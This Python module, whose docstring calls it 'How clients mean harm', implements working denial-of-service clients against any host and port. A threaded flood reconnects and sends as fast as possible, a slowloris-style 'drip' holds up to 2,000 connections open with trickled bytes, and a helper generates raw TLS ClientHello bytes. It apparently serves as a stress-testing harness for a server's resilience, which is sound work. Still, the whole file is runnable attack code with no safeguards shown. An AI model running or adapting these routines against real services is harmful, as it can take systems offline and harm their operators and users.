"""How clients mean harm: connections that flood, that drip, that only are."""

import functools
import select
import socket
import ssl
import threading
from contextlib import ExitStack
from itertools import count

CONNECT_SECONDS = 5
GRACE_SECONDS = 0.2
SLOW_CONNECTIONS = 2_000


def flood(place, stop, begin, attackers=4, reads=True):
    """Connections that send as fast as they can, each anew when it is closed.

    `begin` gives what a connection sends first and what it sends then, by the turn; None is to wait a
    little for an answer.
    """
    sent, connections = [0] * attackers, [0] * attackers

    def one(number):
        while not stop.is_set():
            first, following = begin()
            connections[number] += 1
            with ExitStack() as held:
                connection = connected(held, place, b"")
                if not connection:
                    continue
                turns = count()
                pending = memoryview(first)
                while not stop.is_set():
                    readable, writable, _ = select.select([connection] * reads, [connection] * bool(pending), [], 0.1)
                    try:
                        if readable and not connection.recv(65536):
                            break
                        if writable:
                            went = connection.send(pending)
                            sent[number] += went
                            pending = pending[went:]
                    except BlockingIOError:
                        continue
                    except OSError:
                        break
                    if not pending and not following:
                        stop.wait(GRACE_SECONDS)
                        break
                    if not pending:
                        pending = memoryview(following(next(turns)))

    together([functools.partial(one, number) for number in range(attackers)])
    return f"{sum(sent) >> 10} KiB on {sum(connections)} connections"


def drip(place, stop, first, connections=SLOW_CONNECTIONS, words=b"a"):
    """Connections that send a beginning and then a few bytes a second each, anew when they are closed."""
    opened = [0]

    def some():
        with ExitStack() as held:
            alive = []
            while not stop.is_set():
                while len(alive) < connections // 2 and not stop.is_set():
                    opened[0] += 1
                    if opened[0] > 10 * connections:
                        break
                    one = connected(held, place, first)
                    if one:
                        alive.append(one)
                alive = [one for one in alive if dripped(one, words)]
                stop.wait(1)

    together([some] * 2)
    return f"{opened[0]} connections"


def dripped(connection, words):
    """Sends a little; whether the connection is still there."""
    try:
        connection.send(words)
        return True
    except BlockingIOError:
        return True
    except OSError:
        connection.close()
        return False


def connected(held, place, words):
    """A connection that has said something, or None when it was closed at once."""
    host, port = place.split(":")
    one = None
    try:
        one = socket.create_connection((host, int(port)), timeout=CONNECT_SECONDS)
        one.sendall(words)
        one.setblocking(False)
        return held.enter_context(one)
    except OSError:
        if one:
            one.close()
        return None


def together(functions):
    threads = [threading.Thread(target=function) for function in functions]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def client_hello():
    """What a client begins TLS with."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
